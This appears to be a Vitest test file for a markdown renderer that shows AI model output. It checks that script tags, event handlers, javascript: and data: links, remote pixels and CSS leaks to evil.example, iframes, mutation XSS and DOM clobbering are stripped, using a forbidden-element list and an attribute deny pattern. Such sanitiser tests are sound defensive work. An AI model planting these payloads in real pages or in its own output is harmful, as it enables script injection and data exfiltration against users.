import { describe, expect, it } from "vitest";
import { highlight } from "./highlight";
import { lastBlockStart, renderBlocks } from "./render";

/** Renders into a real document, as the page does. */
function dom(markdown: string): HTMLElement {
  const root = document.createElement("div");
  root.innerHTML = renderBlocks(markdown)
    .map((block) => (block.kind === "html" ? block.html : ""))
    .join("");
  return root;
}

describe("what a model may not do", () => {
  const hostile: [string, string][] = [
    ["script", "<script>window.hacked = 1</script>"],
    ["script in a paragraph", "Hello <script src=https://evil.example/x.js></script> there"],
    ["event handler", "<img src=x onerror=alert(1)>"],
    ["event handler on an allowed element", "<b onclick=alert(1)>bold</b>"],
    ["javascript link", "[press](javascript:alert(1))"],
    ["javascript link, hidden", "[press](JaVa\tScRiPt:alert(1))"],
    ["javascript link, encoded", "[press](&#106;avascript&colon;alert(1))"],
    ["javascript autolink", "<javascript:alert(1)>"],
    ["data link", "[press](data:text/html,<script>alert(1)</script>)"],
    ["vbscript link", "[press](vbscript:msgbox)"],
    ["remote picture", "![cat](https://evil.example/pixel.png)"],
    ["remote picture, by reference", "![cat][c]\n\n[c]: https://evil.example/pixel.png"],
    ["picture in a link", "[![cat](https://evil.example/pixel.png)](https://evil.example)"],
    ["data picture", "![x](data:image/svg+xml,<svg onload=alert(1)>)"],
    ["iframe", '<iframe src="https://evil.example"></iframe>'],
    ["srcdoc", '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>'],
    ["svg", '<svg><script>alert(1)</script><image href="https://evil.example/x"/></svg>'],
    ["svg with onload", "<svg/onload=alert(1)>"],
    ["mathml", '<math><mi xlink:href="javascript:alert(1)">x</mi></math>'],
    ["object", '<object data="https://evil.example"></object><embed src="https://evil.example">'],
    ["meta refresh", '<meta http-equiv="refresh" content="0;url=https://evil.example">'],
    ["base", '<base href="https://evil.example/">'],
    ["style sheet", "<style>body{background:url(https://evil.example/leak)}</style>"],
    ["style attribute", '<p style="background:url(https://evil.example/leak)">x</p>'],
    ["style link", '<link rel="stylesheet" href="https://evil.example/x.css">'],
    ["form", '<form action="https://evil.example"><input name=q><button>Go</button></form>'],
    ["video", '<video src="https://evil.example/x.mp4" autoplay poster="https://evil.example/p.png"></video>'],
    ["anchor with target", '<a href="https://evil.example" target=_blank ping="https://evil.example/p">x</a>'],
    ["table background", '<table background="https://evil.example/x"><tr><td>x</table>'],
    ["quote break out of a link's address", '[x](https://a.example/"onmouseover="alert(1))'],
    ["quote break out of a link's title", '[x](https://a.example "a\\" onmouseover=\\"alert(1)")'],
    ["html in a picture's description", "![<img src=x onerror=alert(1)>](https://a.example/x.png)"],
    ["html in a code span", "`<img src=x onerror=alert(1)>`"],
    ["html inside a list and a table", "- <img src=x onerror=alert(1)>\n\n| a |\n| - |\n| <svg onload=alert(1)> |"],
    ["mutation", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">"],
    ["comment", "<!--><img src=x onerror=alert(1)>-->"],
    ["clobbering", '<a id="app" name="body"></a><form id=__TAURI_INTERNALS__></form>'],
  ];

  it.each(hostile)("%s", (_, markdown) => {
    const root = dom(markdown);
    const forbidden = "script,img,iframe,svg,math,object,embed,meta,base,style,link,form,input,button,video,audio,source,picture,template,noscript";
    expect(root.querySelectorAll(forbidden)).toHaveLength(0);
    for (const element of root.querySelectorAll("*")) {
      for (const { name } of element.attributes) {
        expect(name).not.toMatch(/^on|^(style|href|src|srcset|srcdoc|action|formaction|background|poster|ping|target|id|name|xlink)/);
      }
      expect(element.getAttribute("data-address") ?? "https://").toMatch(/^(https?:\/\/|mailto:)/i);
    }
  });

  it("still shows what was written, as text", () => {
    expect(dom("Use <script>alert(1)</script> never").textContent).toContain("<script>alert(1)</script>");
    expect(dom("![a cat](https://evil.example/x.png)").textContent).toContain("a cat");
    expect(dom("[press](javascript:alert(1))").textContent).toContain("press");
  });
});

describe("what a model may do", () => {
  it("shows links as addresses to copy, never as links", () => {
    const link = dom("[the docs](https://example.org/a?b=1&c=2)").querySelector<HTMLElement>(".address")!;
    expect(link.textContent).toBe("the docs");
    expect(link.dataset.address).toBe("https://example.org/a?b=1&c=2");
    expect(link.hasAttribute("href")).toBe(false);
    expect([link.getAttribute("role"), link.tabIndex]).toEqual(["button", 0]);
  });

  it("renders headings, lists, tables, quotes, tasks and line breaks", () => {
    const root = dom("# A\n\n3. x\n4. y\n\n| a | b |\n|---|--:|\n| 1 | 2<br>3 |\n\n> q\n\n- [x] done\n\nline\nbreak **b** H<sub>2</sub>O");
    expect(root.querySelector("h1")?.textContent).toBe("A");
    expect(root.querySelector("ol")?.getAttribute("start")).toBe("3");
    expect(root.querySelector("td[align=right] br")).not.toBeNull();
    expect(root.querySelector("blockquote")?.textContent?.trim()).toBe("q");
    expect(root.querySelector("ul")?.textContent).toContain("☑ done");
    expect(root.querySelectorAll("p > br")).toHaveLength(1);
    expect(root.querySelector("sub")?.textContent).toBe("2");
  });

  it("keeps code as text, with its language", () => {
    expect(renderBlocks("```python title=x\nprint('<b>')\n```")).toEqual([
      { kind: "code", raw: "```python title=x\nprint('<b>')\n```", code: "print('<b>')", language: "python" },
    ]);
  });

  it("takes an open code fence for code while it is written", () => {
    expect(renderBlocks("```js\nlet a")).toMatchObject([{ kind: "code", code: "let a", language: "js" }]);
  });
});

describe("highlight", () => {
  it("colours what it knows and escapes what it colours", () => {
    const html = highlight("def f(): return '<img src=x onerror=alert(1)>'", "Python")!;
    expect(html).toContain("hljs-keyword");
    const root = document.createElement("div");
    root.innerHTML = html;
    expect(root.querySelector("img")).toBeNull();
    expect(root.textContent).toBe("def f(): return '<img src=x onerror=alert(1)>'");
  });

  it("leaves the unknown and the very long alone", () => {
    expect(highlight("x", "klingon")).toBeNull();
    expect(highlight("x".repeat(50_000), "python")).toBeNull();
  });
});

describe("lastBlockStart", () => {
  it("finds where the text can still change", () => {
    expect(lastBlockStart("one\n\ntwo\n\nthr")).toBe("one\n\ntwo\n\n".length);
    expect(lastBlockStart("one\n\n- a\n- b\n\n")).toBe("one\n\n".length);
    expect(lastBlockStart("just one")).toBe(0);
    expect(lastBlockStart("")).toBe(0);
  });
});
